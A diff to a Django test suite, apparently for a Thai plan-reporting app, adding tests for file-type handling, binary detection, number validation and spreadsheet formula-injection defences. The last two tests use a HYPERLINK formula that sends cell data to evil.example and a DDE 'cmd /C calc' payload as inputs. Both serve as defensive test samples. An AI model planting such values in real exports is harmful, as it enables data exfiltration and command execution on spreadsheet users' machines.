@@ -30,7 +30,7 @@ from measures.views import set_detail_context
 from plans.models import Agency, Plan, PlanItem, SourceDocument
 from reports.choices import RoundKind
 from reports.models import Evidence, ReportRow
-from reports.services import round_open
+from reports.services import report_row_update, round_open
 from reports.tests.factories import plan_2566_2570
 from reports.views import round_page_context
 
@@ -247,6 +247,8 @@ def test_it_serves_html_behind_a_png_header_as_a_png_never_as_html(client_for, a
     response = client.get(reverse("reports:evidence_file", args=[evidence.pk]))
     assert response["Content-Type"] == "image/png"
     assert response["X-Content-Type-Options"] == "nosniff"
+    # "Save as" keeps the type found in the content, never the .html the name claimed.
+    assert 'filename="page.png"' in response["Content-Disposition"]
     assert "Content-Security-Policy" in response
 
 
@@ -309,6 +311,7 @@ def _nothing_written() -> bool:
         ("nul_in_first_line", "binary file"),
         ("utf16_le", "binary file"),
         ("utf16_with_bom", "binary file"),
+        ("nul_near_the_end", "binary file"),
         ("over_20_mb", "file too large"),
     ],
 )
@@ -320,6 +323,10 @@ def test_it_refuses_unreadable_documents_in_one_line(tmp_path, case, reason):
         "nul_in_first_line": lambda: text.replace("\n", "\x00\n", 1).encode(),
         "utf16_le": lambda: text.encode("utf-16-le"),
         "utf16_with_bom": lambda: text.encode("utf-16"),
+        # Past the first 64 KB: a check of the head alone once let this through to the DB.
+        "nul_near_the_end": lambda: (
+            seed_path("001").read_text(encoding="utf-8") + "\x00\nท้ายเอกสาร\n"
+        ).encode(),
         "over_20_mb": lambda: (text * (21 * 1024 * 1024 // len(text.encode()) + 1)).encode(),
     }[case]()
     path = tmp_path / "document.txt"
@@ -338,7 +345,7 @@ def test_it_refuses_unreadable_documents_in_one_line(tmp_path, case, reason):
 NOT_NUMBERS = ["1e9", "NaN", "Infinity", "-Infinity", "0x10", "1_000", "๑e๙"]
 
 
-@pytest.mark.parametrize("text", [*NOT_NUMBERS, "๑,๐๐๐,๐๐๐,๐๐๐,๐๐๐,๐๐๐", "-5"])
+@pytest.mark.parametrize("text", [*NOT_NUMBERS, "๑,๐๐๐,๐๐๐,๐๐๐,๐๐๐,๐๐๐", "-5", "-0"])
 def test_it_refuses_a_budget_that_is_not_an_amount(client_for, alice, open_row, text):
     response = client_for(alice).post(
         reverse("reports:row_edit", args=[open_row.pk]),
@@ -367,7 +374,7 @@ def test_it_refuses_an_ita_score_that_is_not_a_score(client_for, alice, agency_a
     assert not ITAResult.objects.exists()
 
 
-@pytest.mark.parametrize("text", [*NOT_NUMBERS, "๑,๐๐๐,๐๐๐,๐๐๐,๐๐๐,๐๐๐", "3000"])
+@pytest.mark.parametrize("text", [*NOT_NUMBERS, "๑,๐๐๐,๐๐๐,๐๐๐,๐๐๐,๐๐๐", "3000", "0", "-0"])
 def test_it_refuses_a_fiscal_year_that_is_not_a_year(client_for, alice, agency_a, text):
     client = client_for(alice)
     response = client.post(
@@ -444,3 +451,48 @@ def test_it_needs_a_csrf_token_for_a_staff_post(alice, agency_a):
     assert response.status_code == 403
     measure_set.refresh_from_db()
     assert measure_set.status == "draft"
+
+
+# --- Spreadsheet exports ------------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'
+
+
+def test_it_never_exports_typed_text_as_a_spreadsheet_formula(client_for, alice, open_row):
+    import io
+
+    from openpyxl import load_workbook
+
+    client = client_for(alice)
+    report_row_update(
+        row=open_row,
+        data={"done_text": FORMULA + "\x0bบรรทัดใหม่"},
+        version=open_row.version,
+        user=alice,
+    )
+    rnd = open_row.round
+    csv_text = body(
+        client.get(reverse("reports:round_export", args=[rnd.pk, "rows", "csv"]))
+    ).decode("utf-8-sig")
+    assert "'" + FORMULA.replace('"', '""') in csv_text  # shown as text by spreadsheets
+    assert "\x0b" not in csv_text
+    response = client.get(reverse("reports:round_export", args=[rnd.pk, "rows", "xlsx"]))
+    assert response.status_code == 200  # a control character once made this a 500
+    sheet = load_workbook(io.BytesIO(body(response))).active
+    cells = [
+        c
+        for row in sheet.iter_rows()
+        for c in row
+        if isinstance(c.value, str) and "HYPERLINK" in c.value
+    ]
+    assert cells and all(c.data_type == "s" and c.value.startswith("=HYPERLINK") for c in cells)
+    assert all("\x0b" not in c.value for c in cells)
+
+
+def test_it_neutralises_formulas_in_the_open_data(client, agency_a):
+    from plans.tests.factories import item_create, plan_create
+
+    plan = plan_create(agency_a)
+    item_create(plan, title="@SUM(1+1)*cmd|' /C calc'!A0")
+    text = body(client.get(reverse("core:open_data_plan_items_csv"))).decode("utf-8-sig")
+    assert ",'@SUM(1+1)" in text
